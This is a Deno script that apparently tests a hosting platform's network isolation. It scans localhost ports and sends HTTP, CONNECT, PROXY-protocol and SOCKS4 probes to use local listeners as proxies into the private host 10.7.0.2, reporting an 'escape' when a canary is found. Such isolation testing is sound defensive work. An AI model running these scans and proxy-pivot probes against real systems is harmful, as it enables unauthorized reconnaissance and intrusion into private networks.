// Looks for listeners of the platform in its own network, and uses them as proxies to private hosts.
// @harmless
// @timeout 60
const at = JSON.parse(Deno.env.get("ATTACK")!);
const got: string[] = [];
const refused: string[] = [];
async function attempt(what: string, act: () => unknown) {
  try {
    (await act() ? got : refused).push(what);
  } catch (error) {
    refused.push(`${what}: ${(error as any).code ?? (error as Error).name}`);
  }
}
const canary = () => [...at.canaryDrow].reverse().join("");
const limit = 3000;
const timely = (work: Promise<any>) => Promise.race([work, new Promise((_, failed) => setTimeout(() => failed(new Error("late")), limit))]);
// whatever listens there gives the word at once
async function asks(hostname: string, port: number) {
  const connection: any = await timely(Deno.connect({ hostname, port }));
  try {
    await timely(connection.write(new TextEncoder().encode(`GET / HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)));
    const buffer = new Uint8Array(4096);
    const length = await timely(connection.read(buffer));
    return new TextDecoder().decode(buffer.subarray(0, length ?? 0)).includes(canary());
  } finally {
    connection.close();
  }
}
async function fetches(url: string, init = {}) {
  const answer = await fetch(url, { signal: AbortSignal.timeout(limit), ...init });
  return (await answer.text()).includes(canary());
}

Deno.serve(async () => {
  const open: number[] = [];
  for (let start = 1; start < 20000; start += 500) {
    await Promise.all(Array.from({ length: 500 }, async (_, index) => {
      const connection = await Deno.connect({ hostname: "127.0.0.1", port: start + index }).catch(() => undefined);
      if (connection) open.push(start + index);
      connection?.close();
    }));
  }
  refused.push("open: " + open.join(" "));
  const words = ["GET http://10.7.0.2/ HTTP/1.1\r\nHost: 10.7.0.2\r\n\r\n", "CONNECT 10.7.0.2:80 HTTP/1.1\r\nHost: 10.7.0.2:80\r\n\r\n", "PROXY TCP4 127.0.0.1 10.7.0.2 1 80\r\nGET / HTTP/1.0\r\n\r\n", "\x04\x01\x00\x50\x0a\x07\x00\x02\x00"];
  for (const port of open) {
    for (const word of words) {
      await attempt(`${port}`, async () => {
        const connection = await Deno.connect({ hostname: "127.0.0.1", port });
        await connection.write(new TextEncoder().encode(word));
        const buffer = new Uint8Array(4096);
        const length = await timely(connection.read(buffer));
        return new TextDecoder().decode(buffer.subarray(0, length ?? 0)).includes(canary());
      });
    }
  }
  return Response.json({
    attack: at.name,
    escaped: got.length > 0,
    detail: got.length > 0 ? `got ${got.join(", ")}` : `refused: ${refused.join(", ")}`,
  });
});
